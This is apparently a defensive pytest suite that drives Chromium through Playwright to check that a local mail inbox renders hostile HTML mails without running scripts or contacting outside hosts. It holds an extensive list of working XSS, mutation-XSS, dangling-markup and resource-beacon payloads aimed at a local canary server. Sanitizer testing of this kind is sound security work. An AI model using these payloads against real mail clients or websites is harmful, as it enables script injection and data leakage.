"""Hostile mails in a real browser: nothing runs, nothing is fetched, nothing gets out.

`ATTEMPTS` is the list of what is tried. A server that nobody should ever call listens on the
address in each of them; every connection to it is a failure, as is any dialog, any new page,
any change of the inbox's own address, and any trace of a script that ran.
"""

import smtplib
import socketserver
import threading

import pytest
from playwright.sync_api import Page, sync_playwright

CHROMIUM = "/usr/bin/chromium"
ARGUMENTS = (
    "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking"
    " --disable-component-update --disable-sync"
)

# {out} is the address of the server that nobody should call; `pwned` is what a script would set.
RUN = "parent.pwned=top.pwned=1;alert(1);new Image().src='{out}/ran'"
ATTEMPTS = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": "<script src='{out}/a.js'></script>",
    "script in odd case": f"<ScRiPt >{RUN}</sCrIpT\t>",
    "module script": "<script type=module>import '{out}/m.js'</script>",
    "event handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><svg onload="{RUN}">',
    "handlers that need no click": f'<details open ontoggle="{RUN}">x</details>'
    f'<input autofocus onfocus="{RUN}"><video><source onerror="{RUN}"></video>'
    f'<marquee onstart="{RUN}">x</marquee>'
    f'<style>@keyframes x{{}}</style><b style="animation:x 1s" onanimationstart="{RUN}">x</b>',
    "javascript: link": f'<a href="javascript:{RUN}">x</a>',
    "javascript: link in disguise": f'<a href="&#106;ava\tscript&colon;{RUN}">x</a>',
    "data: link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link out": "<a href='{out}/a'>x</a>",
    "link out, in this frame": "<a target=_self href='{out}/b'>x</a>",
    "link out, in the page": "<a target=_top href='{out}/c'>x</a><a target=_parent href='{out}/d'>y</a>",
    "link out, in a new page": "<a target=_blank href='{out}/e'>x</a><area href='{out}/f'>",
    "link out in other tongues": "<svg><a href='{out}/1'><text y=20>x</text></a><a xlink:href='{out}/2'>"
    "<text y=40>y</text></a></svg><math><mtext href='{out}/3'>z</mtext></math><a target='' HREF = '{out}/4'>"
    "w</a><a hr\0ef='{out}/5'>v</a><a/href='{out}/6'/target=_self>u</a><a \"href='{out}/7'>t</a>",
    "link that is made later": "<svg><a><animate attributeName=href values='{out}/1' dur=1s fill=freeze />"
    "<set attributeName=href to='{out}/2'/><text y=20>x</text></a></svg>",
    "link with a ping": "<a href='#' ping='{out}/ping'>x</a>",
    "link into the inbox": "<a target=_self href='/api/stats'>x</a><a target=_top href='/'>y</a>",
    "base": "<base href='{out}/' target=_self><img src=b.png><a href=b.html>x</a>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={out}/refresh'>",
    "meta refresh in svg": "<svg><foreignObject><meta http-equiv=refresh content='0;url={out}/r'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content='default-src *'><img src={out}/p>",
    "form": "<form action='{out}/form' method=post><input name=p value=1><button>x</button></form>",
    "form by button": "<form id=f></form><button form=f formaction='{out}/f' formmethod=get>x</button>",
    "pictures": "<img src='{out}/1.png'><img srcset='{out}/2.png 1x'><picture><source srcset="
    "'{out}/3.png'><img></picture><input type=image src='{out}/4.png'><video poster='{out}/5.png'>"
    "</video><body background='{out}/6.png'><table background='{out}/7.png'><image src='{out}/8'>",
    "sound and video": "<audio autoplay src='{out}/a.mp3'></audio><video autoplay><source src="
    "'{out}/v.mp4'></video><track src='{out}/t.vtt' default>",
    "styles": "<link rel=stylesheet href='{out}/s.css'><style>@import url('{out}/i.css');"
    "@font-face{{font-family:f;src:url('{out}/f.woff')}}body{{font-family:f;background:url({out}/b.png);"
    "cursor:url({out}/c.cur),auto}}p{{list-style:url({out}/l.png);content:url({out}/d.png)}}</style>"
    "<p style='background-image:url({out}/q.png)'>text</p>",
    "hints to the browser": "<link rel=preconnect href='{out}'><link rel=dns-prefetch href='{out}'>"
    "<link rel=prefetch href='{out}/p'><link rel=preload as=image href='{out}/q'><link rel=prerender "
    "href='{out}/r'><link rel=icon href='{out}/i.ico'><link rel=modulepreload href='{out}/m.js'>"
    "<link rel=manifest href='{out}/m.json'>",
    "hints in svg and disguise": "<svg><LINK xmlns='http://www.w3.org/1999/xhtml' rel=preconnect "
    "href='{out}'></svg></title></style></textarea><!--><link rel=preconnect href='{out}'>-->",
    "svg": "<svg><script href='{out}/s.js'></script><image href='{out}/i.png'/><use href='{out}/u.svg#x'/>"
    f"<a href='javascript:alert(1)'><text y=20>x</text></a><animate onbegin=\"{RUN}\" attributeName=x>"
    "<set attributeName=href to='javascript:alert(1)'/><feImage href='{out}/fe.png'/></svg>",
    "svg picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload='alert(1)'><image href='{out}/n.png'/></svg>\">",
    "frames": "<iframe src='{out}/f.html'></iframe><iframe srcdoc=\"<script>top.pwned=1</script><img src="
    "'{out}/g'>\"></iframe><iframe src='javascript:top.pwned=1'></iframe><iframe src='/'></iframe>",
    "a set of frames": "<frameset cols=50%,50%><frame src='{out}/1'><frame src='javascript:top.pwned=1'>",
    "plug-ins": "<object data='{out}/o.swf'></object><embed src='{out}/e.swf'><applet code='{out}/a'>"
    "</applet><object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "templates and shadow": f"<div><template shadowrootmode=open><img src='{{out}}/s' onerror=\"{RUN}\">"
    "</template></div><noscript><img src='{out}/n'></noscript>",
    "mutation": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"><math><mtext><table><mglyph>"
    f"<style><!--</style><img title=\"--&gt;&lt;img src={{out}}/m onerror={RUN}&gt;\">",
    "tags left open": "<img src='{out}/dangling?<p>secret</p><a href=\"{out}/x",
    "nothing but nulls": "<scr\0ipt>top.pwned=1</scr\0ipt><img src={out}/\0a>",
    "cover the page": "<div style='position:fixed;inset:-9999px;z-index:9999;background:red'>x</div>",
    "pop-ups": "<dialog open>x</dialog><button popovertarget=p>x</button><div popover id=p><img src={out}/p>"
    "</div><button onclick='open(\"{out}/w\")'>y</button>",
    "pictures of the mail that are none": "<img src='cid:x'><img src='cid:nothing'>",
}  # fmt: skip


class Canary:
    """A server that nobody should call."""

    def __init__(self) -> None:
        self.called: list[bytes] = []
        canary = self

        class Call(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                canary.called.append(b"a connection")  # enough: a hint opens one and says nothing
                self.request.settimeout(1)

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Call)
        self.out = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()


@pytest.fixture
def canary():
    canary = Canary()
    yield canary
    canary.server.shutdown()
    canary.server.server_close()


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS.split())
        yield browser
        browser.close()


@pytest.fixture
def page(browser, mail_sink):
    context = browser.new_context()
    page = context.new_page()
    page.goto(mail_sink.page)
    page.wait_for_selector("#live[data-state=live]")
    yield page
    context.close()


def send_raw(sink, raw: bytes) -> int:
    with smtplib.SMTP("127.0.0.1", sink.smtp_port, timeout=30) as client:
        client.sendmail("a@example.test", ["b@example.test"], raw)
    return sink.mails()[-1].id


def html_mail(html: str, subject: str = "hostile") -> bytes:
    head = (
        f"Subject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    )
    return head.encode() + html.encode()


def what_happens(page: Page) -> list[str]:
    """Return a list to which everything is added that a mail may not do."""
    events: list[str] = []
    inbox = page.url.split("#")[0]
    page.on("dialog", lambda dialog: (events.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("download", lambda download: events.append(f"download {download.url}"))
    page.context.on("page", lambda new: events.append(f"new page {new.url}"))
    own = (inbox, "data:")
    page.on(
        "response",
        lambda answer: answer.url.startswith(own) or events.append(f"answer from {answer.url}"),
    )
    page.on(
        "requestfailed",
        lambda request: (
            request.failure in ("csp", "origin")
            or events.append(f"{request.failure} {request.url}")
        ),
    )
    page.on(
        "framenavigated",
        lambda frame: (
            frame is not page.main_frame
            or frame.url.startswith(f"{inbox}#/mail/")
            or events.append(f"page went to {frame.url}")
        ),
    )
    return events


def click_all(page: Page) -> None:
    """Click on everything in the mail that can be clicked, as an incautious reader would."""
    targets = page.frame_locator("#mail iframe").locator("a, area, button, input, summary")
    for number in range(targets.count()):
        if number < targets.count():  # the frame may have gone elsewhere meanwhile
            targets.nth(number).dispatch_event("click", timeout=2000)
            if targets.count() > number and targets.nth(number).is_visible():
                targets.nth(number).click(timeout=2000, force=True, no_wait_after=True)


def settle(page: Page) -> None:
    """Let the page do whatever it still means to do."""
    page.evaluate("() => new Promise(done => requestIdleCallback(done, {timeout: 500}))")
    page.evaluate("() => fetch('api/stats').then(answer => answer.text())")


def test_the_canary_would_sing(page, canary):
    """The test of the test: a page with none of the fences does call out."""
    page.context.new_page().set_content(f"<img src='{canary.out}/x.png'>", wait_until="commit")
    for _ in range(200):
        if canary.called:
            break
        settle(page)
    assert canary.called


@pytest.mark.parametrize("name", ATTEMPTS)
def test_nothing_runs_and_nothing_is_fetched(mail_sink, page, canary, name):
    html = ATTEMPTS[name].replace("{{", "{").replace("}}", "}").replace("{out}", canary.out)
    mail = send_raw(mail_sink, html_mail(html))
    events = what_happens(page)
    page.evaluate(f"location.hash = '#/mail/{mail}'")
    page.wait_for_selector("#mail iframe")
    page.frame_locator("#mail iframe").locator("html").wait_for(state="attached")
    settle(page)
    before = page.url
    click_all(page)
    settle(page)
    assert events == []
    assert canary.called == []
    assert page.url == before
    assert page.evaluate("window.pwned") is None
    assert page.locator("#live[data-state=live]").count() == 1
